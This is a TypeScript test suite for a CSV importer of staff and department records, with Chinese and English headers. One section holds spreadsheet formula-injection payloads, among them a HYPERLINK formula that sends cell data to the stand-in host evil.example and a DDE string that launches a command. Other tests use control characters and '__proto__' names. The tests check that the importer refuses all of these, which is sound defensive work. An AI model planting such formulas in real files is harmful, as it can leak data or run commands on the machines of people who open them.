import { describe, expect, it } from 'vitest';
import type { Department } from '../model.ts';
import { csvProblems } from './problems.ts';
import { readCsvFiles } from './read-files.ts';

const known = new Map<string, Department>(
  [
    { id: '1', name: '总部', parent: null },
    { id: '2', name: '研发', parent: '1' },
    { id: '3', name: '一组', parent: '2' },
    { id: '4', name: '销售', parent: '1' },
    { id: '5', name: '一组', parent: '4' },
  ].map((one) => [one.id, { ...one, order: 0, source: 'wecom' }]),
);
const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);
const read = (people: string | null, departments: string | null = null) =>
  readCsvFiles(
    {
      people: people === null ? null : utf8(people),
      departments: departments === null ? null : utf8(departments),
      encoding: 'auto',
    },
    known,
  );
const codes = (reading: ReturnType<typeof read>): unknown[] =>
  reading.problems.map(({ line, column, code }) => [line, column, code]);

describe('people from a file', () => {
  it('are read under Chinese headers', () => {
    const { image, problemCount } = read(
      '账号,姓名,部门,职务,手机号,邮箱,工号,类型,状态\nzhang,张三,2;总部/研发/一组,工程师,+86 138-0000-0001,z@example.com,E7,员工,在职\n',
    );
    expect(problemCount).toBe(0);
    expect(image.people).toEqual([
      {
        key: 'zhang',
        uid: 'zhang',
        kind: 'employee',
        name: '张三',
        departments: ['2', '3'],
        leads: null,
        position: '工程师',
        phone: '+86 138-0000-0001',
        email: 'z@example.com',
        number: 'E7',
        roles: [],
        status: 'active',
      },
    ]);
  });
  it('are read under English headers, in any order, with columns of no concern left alone', () => {
    const { image } = read('Birthday;Display Name;User_ID;Type;Status\n1990-01-01;Li Si;li;partner;disabled\n');
    expect(image.people[0]).toMatchObject({
      uid: 'li',
      name: 'Li Si',
      kind: 'partner',
      status: 'disabled',
      departments: null,
      phone: null,
    });
  });
  it('an empty cell says none, a missing column says nothing', () => {
    expect(read('uid,name,phone\na,A,\n').image.people[0]?.phone).toBe('');
    expect(read('uid,name\na,A\n').image.people[0]?.phone).toBeNull();
  });
  it('keeps leading zeros that a spreadsheet has marked', () => {
    expect(read(`uid,name,number\na,A,"=""007"""\nb,B,'008\n`).image.people.map((one) => one.number)).toEqual(['007', '008']);
  });
  it('every mistake has its line and column, and spoils only its line', () => {
    const reading = read(
      [
        'uid,name,phone,email,部门,状态',
        'a,A,x,,,',
        'b,,,,,',
        ',C,,,,',
        'd,D',
        'e e,E,,,,',
        'f,F,,no mail,,',
        'g,G,,,nowhere,',
        'h,H,,,一组,',
        'i,I,,,,gone',
        'j,J,,,,',
        'J,J again,,,,',
        '',
      ].join('\n'),
    );
    expect(codes(reading)).toEqual([
      [2, 'phone', 'value_invalid'],
      [3, 'name', 'value_missing'],
      [4, 'uid', 'value_missing'],
      [5, null, 'row_length'],
      [6, 'uid', 'value_invalid'],
      [7, 'email', 'value_invalid'],
      [8, 'departments', 'department_unknown'],
      [9, 'departments', 'department_ambiguous'],
      [10, 'status', 'value_invalid'],
      [12, 'uid', 'duplicate'],
    ]);
    expect(reading.image.people.map((one) => one.uid)).toEqual(['j']);
  });
  it('a header without what is needed, or with the same twice', () => {
    expect(codes(read('name\nA\n'))).toEqual([[1, 'uid', 'column_missing']]);
    expect(codes(read('uid,账号,name\na,b,c\n'))).toEqual([[1, 'uid', 'column_twice']]);
  });
});

describe('what a spreadsheet would run', () => {
  it.each(['=HYPERLINK("http://evil.example/?"&A1)', '+cmd', '-1+1', '@SUM(A1)', "=cmd|' /C calc'!A0", '＝1+1'])(
    '%s is refused as a name or position',
    (text) => {
      const cell = `"${text.replaceAll('"', '""')}"`;
      expect(codes(read(`uid,name\na,${cell}\n`))).toEqual([[2, 'name', 'formula']]);
      expect(codes(read(`uid,name,position\na,A,${cell}\n`))).toEqual([[2, 'position', 'formula']]);
      expect(codes(read(null, `id,name\nx,${cell}\n`))).toEqual([[2, 'name', 'formula']]);
    },
  );
  it('a marked formula does not slip through by its mark', () => {
    expect(codes(read(`uid,name\na,"=""=1+1"""\n`))).toEqual([[2, 'name', 'formula']]);
    expect(codes(read(`uid,name\na,'=1+1\n`))).toEqual([[2, 'name', 'formula']]);
    expect(codes(read(`uid,name\na," =1+1"\n`))).toEqual([[2, 'name', 'formula']]);
  });
  it.each(['a\u0000b', 'a\u202eb', 'a\tb', 'two\nlines'])('control characters are refused (%#)', (text) => {
    expect(codes(read(`uid,name\na,"${text}"\n`))).toEqual([[2, 'name', 'control_character']]);
  });
  it('names of the language are names of nothing', () => {
    expect(codes(read('uid,name,kind,status\na,A,constructor,__proto__\n'))).toEqual([
      [2, 'kind', 'value_invalid'],
      [2, 'status', 'value_invalid'],
    ]);
    expect(codes(read('uid,name\n__proto__,A\nc_AAAAAAAAAAAAAAAA,B\n'))).toEqual([[2, 'uid', 'value_invalid']]);
  });
});

describe('departments from a file', () => {
  it('stand below each other and below those of other sources', () => {
    const { image, problemCount } = read(
      'uid,name,部门\na,A,伙伴/华东\n',
      '部门编号,部门名称,上级部门,排序\np,伙伴,1,5\np.east,华东,p,\n',
    );
    expect(problemCount).toBe(0);
    expect(image.departments).toEqual([
      { id: 'p', name: '伙伴', parent: '1', order: 5 },
      { id: 'p.east', name: '华东', parent: 'p', order: 0 },
    ]);
    expect(image.people[0]?.departments).toEqual(['p.east']);
  });
  it('with mistakes are said by line', () => {
    expect(codes(read(null, 'id,name,parent\n2,mine,\nx,X,nowhere\na,A,b\nb,B,a\nc,C,c\nc,C2,\n'))).toEqual([
      [2, 'id', 'department_foreign'],
      [7, 'id', 'duplicate'],
      [3, 'parent', 'department_unknown'],
      [4, 'parent', 'department_cycle'],
      [5, 'parent', 'department_cycle'],
      [6, 'parent', 'department_cycle'],
    ]);
  });
});

it('ten thousand mistakes are counted, and five hundred shown', () => {
  const reading = read(`uid,name\n${',x\n'.repeat(10_000)}`);
  expect([reading.problemCount, reading.problems.length]).toEqual([10_000, 500]);
});

it('every problem is said in both languages', () => {
  for (const [code, { zh, en }] of Object.entries(csvProblems)) {
    expect(zh, code).toMatch(/[\u4e00-\u9fff]/);
    expect(en, code).not.toMatch(/[\u4e00-\u9fff]/);
  }
});
